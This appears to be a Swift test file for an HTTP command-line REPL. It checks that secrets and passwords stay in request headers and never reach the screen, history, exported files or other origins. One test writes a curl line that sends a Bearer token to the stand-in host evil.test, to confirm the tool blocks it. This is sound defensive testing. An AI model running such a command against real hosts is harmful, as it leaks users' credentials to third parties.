@_spi(Secrets) import ApusClient
import ApusFolderTestSupport
import ApusPacingTestSupport
import ApusReplTestSupport
import Synchronization
import Testing

@testable import ApusLanguage
@testable import ApusRepl
@testable import ApusSurroundings

/// What pasted lines name and leave to others: variables of the environment, and passwords.
@Suite("Names in pasted lines", .paced)
struct PastedNamesTests {
  private static let canary = "canary-4711-secret"
  private static let looking = [
    "history", "request", "request -v", "show 1", "raw", "curl", "httpie", "http", "har", "swift", "explain",
    "env",
    "session", "preview --why curl http://a.test/x -H \"Authorization: Bearer $KEY\"",
  ]

  /// What was sent, by origin.
  private final class Wire: Sendable {
    private let sent = Mutex<[Request]>([])
    var requests: [Request] { sent.withLock { $0 } }
    var last: Request? { requests.last }
    var transport: StubTransport {
      StubTransport { [self] request in
        sent.withLock { $0.append(request) }
        return .response(status: 200, headers: ["Content-Type": "application/json"], body: "{}")
      }
    }
  }

  private func talk(_ wire: Wire, to traits: Console.Traits = .plain, typing typed: String? = nil)
    async throws -> Talk
  {
    try await Talk(
      to: traits, transport: wire.transport, variables: ["KEY": Self.canary, "HOST": "a.test"],
      base: "http://a.test",
      setUp: { $0.askHidden = { _ in typed } })
  }

  /// All that is not a header's value.
  private func isElsewhere(_ request: Request) -> Bool {
    let body = request.body?.bytesInMemory.map { String(decoding: $0, as: UTF8.self) } ?? ""
    return (request.url.text + body).contains(Self.canary)
  }

  @Test(
    "a secret is in its header on the wire, and nowhere on the screen, in the history or in a file",
    arguments: [
      "curl http://a.test/x -H \"Authorization: Bearer $KEY\"",
      "curl http://a.test/x -H \"X-Mine: a-${KEY}-b\"",
      "curl http://a.test/x -H Authorization:$KEY", "curl http://a.test/x -u \"me:$KEY\"",
      "http http://a.test/x \"X-Mine:$KEY\"", "xh post http://a.test/x \"X-Mine:$KEY\" a=b",
      "wget -qO- --header=\"X-Mine: $KEY\" http://a.test/x", "curlie http://a.test/x \"X-Mine:$KEY\"",
      "time curl \"http://$HOST/x\" -H \"X-Mine: $KEY\" 2>/dev/null",
    ])
  func environment(_ line: String) async throws {
    let wire = Wire()
    let talk = try await talk(wire, to: Talk.terminal)
    await talk.say("record it")
    let answer = await talk.say(line)
    #expect(answer.outcome == .ok, "\(answer.text)")
    #expect(!answer.text.contains("canary"), "\(answer.text)")
    let sent = try #require(wire.last)
    #expect(sent.url.text == "http://a.test/x" && !isElsewhere(sent))
    for line in Self.looking {
      let text = await talk.say(line).text
      #expect(!text.contains("canary"), "\(line)\n\(text)")
    }
    await talk.say("record off", "curl > c.sh", "har > d.har")
    for (file, text) in talk.folder.files where file != ".child-output" {
      #expect(!text.contains("canary"), "\(file)\n\(text)")
    }
  }

  @Test(
    "the literal secret of a program's call is in its header only",
    arguments: [
      "fetch(\"http://a.test/x\", {\"headers\": {\"authorization\": \"Bearer canary-4711-secret\"}})",
      "requests.get('http://a.test/x', headers={'Authorization': 'Bearer canary-4711-secret'})",
      "requests.get('http://a.test/x', auth=('me', 'canary-4711-secret'))",
      "axios.get('http://a.test/x', {headers: {Authorization: 'Bearer canary-4711-secret'}})",
      "irm http://a.test/x -Headers @{ Authorization = 'Bearer canary-4711-secret' }",
      "wget -qO- --user me --password canary-4711-secret http://a.test/x",
    ])
  func literal(_ line: String) async throws {
    let wire = Wire()
    let talk = try await talk(wire, to: Talk.terminal)
    let answer = await talk.say(line)
    #expect(answer.outcome == .ok, "\(answer.text)")
    #expect(wire.last?.headers.contains("Authorization") == true)
    let sent = try #require(wire.last)
    #expect(!isElsewhere(sent))
    for looking in ["history", "request", "request -v", "show 1", "curl", "http", "har", "session"] {
      let text = await talk.say(looking).text
      #expect(!text.contains("canary"), "\(looking)\n\(text)")
    }
    #expect(!MaskedLine(line).text.contains("canary"), "\(MaskedLine(line).text)")
  }

  @Test("a session's variable is taken before the environment's, and single quotes keep a name as it is")
  func order() async throws {
    let wire = Wire()
    let talk = try await talk(wire)
    await talk.say("let KEY = mine", "curl http://a.test/x -H \"X-Mine: $KEY\" -d '$KEY'")
    let sent = try #require(wire.last)
    #expect(sent.headers.first("X-Mine")?.revealedForTest == "mine")
    #expect(sent.body?.bytesInMemory.map { Array($0) } == Array("$KEY".utf8))
  }

  @Test("what is missing is asked for once, hidden; where nobody can be asked, a line says how")
  func missing() async throws {
    let wire = Wire()
    let asked = try await talk(wire, to: Talk.terminal, typing: "typed-canary-1")
    for _ in 1...2 {
      let answer = await asked.say("curl http://a.test/x -H \"Authorization: Bearer $NO_SUCH\"")
      #expect(answer.outcome == .ok && !answer.text.contains("canary"), "\(answer.text)")
    }
    #expect(wire.last?.headers.first("Authorization")?.revealedForTest == "Bearer typed-canary-1")
    #expect(!(await asked.say("history").text.contains("canary")))

    let alone = try await talk(Wire())
    let answer = await alone.say("curl http://a.test/x -H \"Authorization: Bearer $NO_SUCH\"")
    #expect(answer.text.contains("there is no variable named NO_SUCH, neither here nor in the environment"))
    #expect(answer.text.contains("try: let NO_SUCH = env:…"))
  }

  @Test("a secret belongs to the origin it went to: to another it goes only when somebody says so")
  func bound() async throws {
    let wire = Wire()
    let talk = try await talk(wire)
    let line = "/x -H \"Authorization: Bearer $KEY\""
    await talk.say("curl http://a.test" + line)
    let refused = await talk.say("curl http://evil.test" + line)
    #expect(refused.text.contains("KEY went to http://a.test before, and this line is for http://evil.test"))
    #expect(refused.text.contains("try: let KEY = env:KEY"))
    #expect(wire.requests.count == 1)
    await talk.say("let KEY = env:KEY", "curl http://evil.test" + line)
    #expect(wire.requests.count == 2)
  }

  @Test("a redirect takes a body with a secret in it to no other origin")
  func redirected() async throws {
    let wire = Wire()
    let talk = try await talk(wire)
    for (line, isKept) in [
      ("-d a=$KEY", true), ("-d a=1 -H X-Mine:$KEY", false), ("-d @- <<< \"$KEY\"", true),
    ] {
      await talk.say("curl -L http://a.test/x \(line)")
      let other = try WebURL("http://b.test/").origin
      #expect((wire.last?.options.mayRedirect?(other) == false) == isKept, "\(line)")
    }
  }

  @Test("lines of a file from elsewhere have the environment's only where somebody allows it")
  func elsewhere() async throws {
    let wire = Wire()
    let desk = try Desk(
      transport: wire.transport,
      environment: Environment(
        variable: { $0 == "KEY" ? Self.canary : nil }, askHidden: { _ in "typed-canary" }))
    let permissions = Permissions { !$0.contains("KEY") }
    let context = desk.context
    _ = try await context.apart("x", permissions) {
      await context.runToEnd("curl http://a.test/x -H \"Authorization: Bearer $KEY\"")
    }
    #expect(wire.requests.isEmpty)
    #expect(permissions.takeRefused() == [.variable("KEY")])
  }

  @Test("a password that a line leaves out is asked for, and shown nowhere")
  func password() async throws {
    let wire = Wire()
    let talk = try await talk(wire, to: Talk.terminal, typing: "canary-pw-1")
    let answer = await talk.say("curl -u me http://a.test/x")
    #expect(answer.outcome == .ok && !answer.text.contains("canary"))
    #expect(wire.last?.headers.contains("Authorization") == true)
    #expect(!(await talk.say("request -v").text.contains("canary")))
  }

  @Test("a file of options is read, and several requests of a line are sent in turn")
  func files() async throws {
    let wire = Wire()
    let talk = try await talk(wire)
    try talk.folder.write("header = \"X-Mine: 1\"\nurl = http://a.test/k\n", to: "k.cfg")
    await talk.say(
      "curl -K k.cfg", "curl http://a.test/1 http://a.test/2; curl http://a.test/3 --next http://a.test/4")
    #expect(wire.requests.map(\.url.path) == ["/k", "/1", "/2", "/3", "/4"])
    #expect(wire.requests.first?.headers["X-Mine"] == "1")
  }

  @Test(
    "a line of code sets no header",
    arguments: ["foo('http://a.test/x?token=abc')", "client.fetch(url: 'x')", "a(b:c d:e", "\"a\": \"b\","])
  func code(_ line: String) async throws {
    let talk = try await talk(Wire())
    #expect(await talk.say(line).outcome != .ok)
    #expect(await talk.say("get /x").outcome == .ok)
  }
}

extension HeaderField {
  fileprivate var revealedForTest: String {
    switch value {
    case .text(let text): text
    case .secret(let secret): secret.reveal()
    }
  }
}
